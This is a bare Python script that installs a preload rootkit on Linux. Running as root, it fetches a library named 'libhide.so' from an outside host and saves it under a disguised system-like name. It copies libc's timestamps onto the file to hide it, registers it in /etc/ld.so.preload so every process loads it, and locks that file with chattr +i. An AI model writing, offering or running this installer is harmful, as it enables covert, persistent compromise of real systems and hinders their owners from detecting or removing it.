import os, urllib.request

LIB = "/usr/local/lib/libsystemd-helper.so"
SRC = "http://cdn.example.org/l/libhide.so"

if os.geteuid() != 0:
    raise SystemExit(1)

data = urllib.request.urlopen(SRC, timeout=20).read()
with open(LIB, "wb") as f:
    f.write(data)
os.chmod(LIB, 0o755)
st = os.stat("/usr/lib/x86_64-linux-gnu/libc.so.6")
os.utime(LIB, (st.st_atime, st.st_mtime))

pre = "/etc/ld.so.preload"
cur = open(pre).read() if os.path.exists(pre) else ""
if LIB not in cur:
    with open(pre, "a") as f:
        f.write(LIB + "\n")
os.system("chattr +i " + pre + " 2>/dev/null")
